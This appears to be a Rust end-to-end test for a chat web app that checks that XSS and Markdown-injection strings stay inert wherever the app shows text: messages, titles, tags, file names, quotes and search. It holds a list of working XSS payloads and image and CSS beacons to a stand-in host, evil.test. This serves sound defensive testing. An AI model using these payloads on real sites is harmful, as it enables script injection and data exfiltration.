//! Hostile texts as everything that a page shows: one's own words, a model's, names of conversations, documents, files, tags
//! and people, passages that replies quote, and what a search finds. Each text is each of these. Nothing may run, and
//! nothing may be asked of anybody but the server.

use crate::model::Model;
use crate::rig::{Page, start_with};

/// Ways to run something. `RUN` is what they try to run.
const MARKUP: [&str; 34] = [
    "<script>RUN</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=RUN>",
    "<img src=x onerror='RUN'//",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><a xlink:href='javascript:RUN'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<object data='javascript:RUN'></object>",
    "<embed src='javascript:RUN'>",
    "<body onload=RUN>",
    "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<a href='javascript:RUN'>x</a>",
    "<a href='data:text/html,<script>RUN</script>'>x</a>",
    "<form action='javascript:RUN'><button>x</button></form>",
    "<button formaction='javascript:RUN'>x</button>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href='http://evil.test/'>",
    "<link rel=stylesheet href='http://evil.test/x.css'>",
    "<link rel=prefetch href='http://evil.test/x'>",
    "<style>@import 'http://evil.test/x.css'; body { background: url(http://evil.test/x) }</style>",
    "<p style=\"background: url('http://evil.test/x')\">x</p>",
    "<marquee onstart=RUN>x</marquee>",
    "<template><script>RUN</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<!--<img src='--><img src=x onerror=RUN>'-->",
    "<div id=app><div id=message>x</div></div>",
    "&lt;img src=x onerror=RUN&gt;",
    "\u{0}<scr\u{0}ipt>RUN</scr\u{0}ipt>",
];

/// Ways to do the same in Markdown, and to call home.
const MARKDOWN: [&str; 32] = [
    "[x](javascript:RUN)",
    "[x](JaVaScRiPt:RUN)",
    "[x](java\tscript:RUN)",
    "[x](&#106;avascript:RUN)",
    "[x](javascript&colon;RUN)",
    "[x](vbscript:RUN)",
    "[x](data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=)",
    "[x](<javascript:RUN>)",
    "<javascript:RUN>",
    "[x]: javascript:RUN\n\n[x]",
    "![x](http://evil.test/x.png)",
    "![x](//evil.test/x.png)",
    "![x](http://evil.test/?q=secret)",
    "![x][y]\n\n[y]: http://evil.test/y.png",
    "![](http://evil.test/empty.png)",
    "[![x](http://evil.test/in.png)](http://evil.test/)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9UlVOPg==)",
    "![x](x\"onerror=\"RUN)",
    "[x](http://evil.test/\"onmouseover=\"RUN)",
    "[x](http://evil.test/ \"title\"onclick=RUN\"\")",
    "`<img src=x onerror=RUN>`",
    "```html\n<script>RUN</script>\n```",
    "```\"><img src=x onerror=RUN>\nx\n```",
    "| <img src=x onerror=RUN> |\n|---|\n| <script>RUN</script> |",
    "> <img src=x onerror=RUN>",
    "- [ ] <img src=x onerror=RUN>",
    "# <svg onload=RUN>",
    "[^1]\n\n[^1]: <img src=x onerror=RUN>",
    "[^\"><img src=x onerror=RUN>]\n\n[^\"><img src=x onerror=RUN>]: x",
    "$<img src=x onerror=RUN>$",
    "<b>bold</b> **<i onclick=RUN>x</i>**",
    "<http://evil.test/\"onclick=RUN>",
];

/// Each of these is said in three manners: as it is, in a list, and in a quotation.
fn corpus() -> Vec<String> {
    let texts: Vec<String> = MARKUP
        .iter()
        .chain(&MARKDOWN)
        .map(|text| text.replace("RUN", "(window.ran=1)"))
        .collect();
    let listed = texts
        .iter()
        .map(|text| format!("- one\n- {}", text.replace('\n', "\n  ")));
    let quoted = texts.iter().map(|text| format!("> {}", text.replace('\n', "\n> ")));
    texts.iter().cloned().chain(listed).chain(quoted).collect()
}

#[test]
fn nothing_runs_and_nothing_calls_home() {
    let model = Model::start();
    let Some((server, browser)) = start_with(Some(&model)) else {
        return;
    };
    let texts = corpus();
    assert!(texts.len() >= 100);
    let page = Page::open(&browser, &server.origin);
    page.sign_up();
    say_all(&page, &texts);
    name_all(&page, &texts);
    page.visit(&server.origin, "");
    list_all(&page);
    read_library(&page, &server.origin);
    read_files_and_passages(&page, &server.origin);
    page.visit(&server.origin, "admin");
    page.wait("people", "document.querySelectorAll('.rows li').length === 1");
    assert_calm(&page);
    search(&page);
    page.assert_quiet(&server.origin, "/html.js");
}

/// As one's own words and, a mirror being the model, as a model's: while they come, and once more as they are stored.
fn say_all(page: &Page, texts: &[String]) {
    for part in texts.chunks(20) {
        page.send(&part.join("\n\n"));
        page.wait_for_end();
        assert_calm(page);
    }
    page.reload();
    let count = texts.len().div_ceil(20) * 2;
    page.wait(
        "all of it",
        &format!("document.querySelectorAll('.message').length === {count}"),
    );
    // Everything that could be pressed is.
    page.eval("([...document.querySelectorAll('.block *')].filter((node) => !node.closest('a[href]')).forEach((node) => \
        ['click', 'mouseover', 'focus', 'toggle'].forEach((type) => node.dispatchEvent(new Event(type, { bubbles: true })))), 1)");
    assert_calm(page);
    let unsafe_links = "[...document.querySelectorAll('.block a')].map((link) => link.protocol) \
        .filter((scheme) => !['http:', 'https:', 'mailto:'].includes(scheme))";
    assert_eq!(page.eval(unsafe_links), serde_json::json!([]), "links that are none");
    page.shot("hostile-light");
}

/// As names of everything that has one, and as what a document says.
fn name_all(page: &Page, texts: &[String]) {
    let texts: Vec<String> = texts.iter().map(|text| text.replace('\0', "")).collect();
    let script = r"(async () => {
        const ask = async (method, path, body) => {
            const reply = await fetch(path, { method, body: body instanceof FormData ? body : JSON.stringify(body) });
            if (!reply.ok) throw new Error(`${method} ${path}: ${reply.status} ${await reply.text()}`);
            return reply.json();
        };
        const urls = [];
        for (const text of TEXTS) {
            const chat = await ask('POST', '/chats', { title: text.slice(0, 200) });
            await ask('PATCH', `/chats/${chat.id}`, { tags: [text.replace(/\s/g, ' ').slice(0, 50).trim()] });
            await ask('POST', '/documents', { title: text.slice(0, 200), content: text });
            const form = new FormData();
            form.append('file', new File(['x'], text));
            urls.push((await ask('POST', '/upload/', form)).url);
        }
        window.whole = (await ask('POST', '/documents', { title: 'whole', content: TEXTS.join('\n\n') })).id;
        const files = (await ask('POST', '/chats', { title: 'files' })).id;
        for (let at = 0; at < urls.length; at += 10)
            await ask('POST', `/chats/${files}/messages/`, { content: 'files', media_urls: urls.slice(at, at + 10) });
        const quotes = (await ask('POST', '/chats', { title: 'quotes' })).id;
        await ask('PATCH', `/chats/${quotes}`, { model: 'library', library: true });
        for (const sought of ['onerror', 'javascript', 'evil', 'script', 'onload'])
            await ask('POST', `/chats/${quotes}/messages/`, { content: sought });
        await ask('PATCH', '/users/me', { display_name: '<img src=x onerror=(window.ran=1)>' });
        return { files, quotes };
    })().then((made) => (window.made = made), (error) => (window.made = String(error)))"
        .replace("TEXTS", &serde_json::to_string(&texts).unwrap());
    page.eval(&format!("({script}, 1)"));
    page.wait("the names", "window.made !== undefined");
    page.wait(
        &format!("no {}", page.eval("window.made")),
        "window.made.files !== undefined",
    );
    let made = "Object.entries({ ...window.made, whole: window.whole })";
    page.eval(&format!(
        "{made}.forEach(([name, id]) => sessionStorage.setItem(name, id))"
    ));
}

/// Every row of the list and every tag has been on the screen.
fn list_all(page: &Page) {
    let look = "(window.seen ??= new Set(), document.querySelectorAll('.row-title').forEach((title) => window.seen.add(title.parentElement.parentElement.dataset.id)), \
        document.querySelector('.list-scroll').scrollBy(0, 400), window.seen.size)";
    page.wait("every title", &format!("{look} >= 200"));
    page.wait("tags", "document.querySelectorAll('.tag').length > 100");
    page.shot("hostile-names-light");
    assert_calm(page);
}

fn read_library(page: &Page, origin: &str) {
    page.visit(origin, "library");
    let next = "((count) => { const more = [...document.querySelectorAll('.page button')].find((button) => button.textContent === 'Show more'); \
        if (more && window.asked !== count) { window.asked = count; more.click(); } return count; })(document.querySelectorAll('.rows li').length)";
    // Among them are texts that are the same document: how many there are, the page says.
    let said = "Number.parseInt(document.querySelector('.list-tools .hint')?.textContent)";
    page.wait("every document", &format!("{next} === {said} && {said} > 150"));
    assert_calm(page);
    let whole = page.eval("sessionStorage.getItem('whole')");
    page.visit(origin, &format!("library/{}", whole.as_str().unwrap()));
    page.wait(
        "the passages",
        "document.querySelector('.page').innerText.includes('onerror')",
    );
    assert_calm(page);
}

fn read_files_and_passages(page: &Page, origin: &str) {
    for (name, shown) in [
        ("files", "document.querySelectorAll('.file-name').length === 198"),
        ("quotes", "document.querySelectorAll('.message').length === 10"),
    ] {
        let id = page.eval(&format!("sessionStorage.getItem({name:?})"));
        page.visit(origin, &format!("c/{}", id.as_str().unwrap()));
        page.wait(name, shown);
        page.shot(&format!("hostile-{name}-light"));
        assert_calm(page);
    }
}

fn search(page: &Page) {
    page.press_button("document.querySelector('button.way')");
    for sought in ["onerror", "javascript", "evil", "script"] {
        page.fill(".palette .search", sought);
        page.wait(
            "what was found",
            &format!("[...document.querySelectorAll('.palette mark')].some((mark) => mark.textContent.toLowerCase() === {sought:?})"),
        );
        assert_calm(page);
    }
}

pub(crate) fn assert_calm(page: &Page) {
    assert_eq!(page.eval("window.ran === undefined"), true, "something ran");
    let foreign = "document.querySelectorAll('.block :is(script, img, iframe, object, embed, style, link, meta, base, form, svg svg, [style], [onerror], [onload]), \
        iframe, object, embed, base, form form, script:not([src]), body style, [onerror], [onload], [onclick], [srcdoc]').length";
    assert_eq!(page.eval(foreign), 0, "an element that should not be");
}
